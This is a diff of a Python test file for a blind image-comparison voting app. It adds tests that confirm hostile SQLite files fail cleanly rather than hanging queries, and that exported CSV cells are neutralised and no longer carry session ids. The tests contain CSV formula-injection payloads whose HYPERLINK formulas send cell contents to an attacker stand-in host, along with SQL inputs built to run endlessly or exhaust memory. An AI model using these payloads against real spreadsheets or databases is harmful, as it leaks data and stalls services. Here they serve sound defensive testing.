@@ -1,11 +1,13 @@
 """Blind votes: sides by chance, nothing lost, and a count that is the same from both sides."""
 
 import base64
+import contextlib
 import csv
 import io
 import math
 import multiprocessing
 import random
+import sqlite3
 import threading
 from collections import Counter
 from dataclasses import replace
@@ -15,9 +17,9 @@ from typing import Any
 import pytest
 from PIL import Image, ImageColor
 
-from app import parts, vote
+from app import parts, vote, votes
 from app.catalog import Catalog
-from app.votes import ANY, FILE, FORMULA, Ballot, Booth, Polls, Side, Vote, ballots, tallies
+from app.votes import ANY, FILE, Ballot, Booth, Polls, Side, Vote, ballots, tallies
 from bilora_diffusion.errors import UserError
 from eval.compare import win_rate_interval
 from tests.app.folders import make_scores
@@ -154,18 +156,57 @@ def test_a_file_without_votes_is_refused_and_left_as_it_is(tmp_path):
         polls.open("scores", ANY, "me")
 
 
+ENDLESS = "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT n FROM r"
+COLUMNS = ", ".join(f'"{name}"' for name in Vote._fields)
+FOREIGN = {
+    "a view": f"CREATE VIEW votes AS SELECT n AS session, * FROM ({ENDLESS} WHERE n < 0)",
+    "a virtual table": f"CREATE VIRTUAL TABLE votes USING fts5({COLUMNS})",
+    "a trigger": (
+        f"CREATE TABLE votes ({COLUMNS}); CREATE TABLE more (n);"
+        f"CREATE TRIGGER x AFTER INSERT ON votes BEGIN INSERT INTO more {ENDLESS} WHERE n < 0; END"
+    ),
+    "a huge value": (
+        f"CREATE TABLE votes ({COLUMNS} AS (hex(zeroblob(1e8))));"  # the last column's
+        "INSERT INTO votes (time) VALUES (1)"
+    ),
+    "other columns": "CREATE TABLE votes (a, b)",
+    "a lock": f"CREATE TABLE votes ({COLUMNS}); BEGIN EXCLUSIVE",
+}
+"""Files of strangers, and one that another program holds."""
+
+
+def read_and_vote(polls):
+    polls.votes()
+    polls.cast(booth(0, "me"), "left")
+
+
+@pytest.mark.parametrize("kind", FOREIGN)
+def test_no_file_of_a_stranger_keeps_a_query_going(tmp_path, monkeypatch, kind):
+    monkeypatch.setattr(votes, "BUSY_SECONDS", 0.2)
+    monkeypatch.setattr(votes, "QUERY_SECONDS", 1.0)
+    polls = made(tmp_path, prompts=1)
+    with contextlib.closing(sqlite3.connect(tmp_path / FILE, isolation_level=None)) as foreign:
+        foreign.executescript(FOREIGN[kind])
+        with pytest.raises(UserError, match=FILE):
+            read_and_vote(polls)
+
+
 def test_the_csv_file_has_a_row_a_vote_and_no_formulas(tmp_path):
     polls, odd = made(tmp_path, prompts=1), 'a "ToK", icon\nof two lines'
-    polls.cast(booth(7, "me", prompt=odd), "tie")
-    formulas = [f'{begin}HYPERLINK("http://evil.example/?"&A1,"x")' for begin in FORMULA]
+    polls.cast(booth(7, "session of one", prompt=odd), "tie")
+    beginnings = ("=", "+", "-", "@", "\t", "\r", "\n=", " =", "\u3000=", "\uff1d", "\uff20")
+    formulas = [f'{begin}HYPERLINK("http://evil.example/?"&A1,"x")' for begin in beginnings]
     for number, words in enumerate(formulas):
-        polls.cast(booth(number, words, left=words, prompt=words), "left")
-    with polls.export(tmp_path / "files").open(encoding="utf-8", newline="") as file:
+        session = f"session of {number % 2}"
+        polls.cast(booth(number, session, left=words, prompt=words), "left")
+    path = polls.export(tmp_path / "files")
+    with path.open(encoding="utf-8", newline="") as file:
         head, first, *rows = csv.reader(file)
-    columns = "time UTC,score folder,prompt,seed,adapter left,adapter right,choice,winner,session"
+    assert "session" not in path.read_text("utf-8"), "who knows a session can vote as its voter"
+    columns = "time UTC,score folder,prompt,seed,adapter left,adapter right,choice,winner,voter"
     assert ",".join(head) == columns
-    assert first[1:] == ["scores", odd, "7", "LoRA", "Bi-LoRA", "tie", "", "me"]
+    assert first[1:] == ["scores", odd, "7", "LoRA", "Bi-LoRA", "tie", "", "1"]
     for number, (words, row) in enumerate(zip(formulas, rows, strict=True)):
-        inert = f"'{words}"
-        expected = ["scores", inert, str(number), inert, "Bi-LoRA", "left", inert, inert]
+        inert, voter = f"'{words}", str(2 + number % 2)
+        expected = ["scores", inert, str(number), inert, "Bi-LoRA", "left", inert, voter]
         assert row[1:] == expected
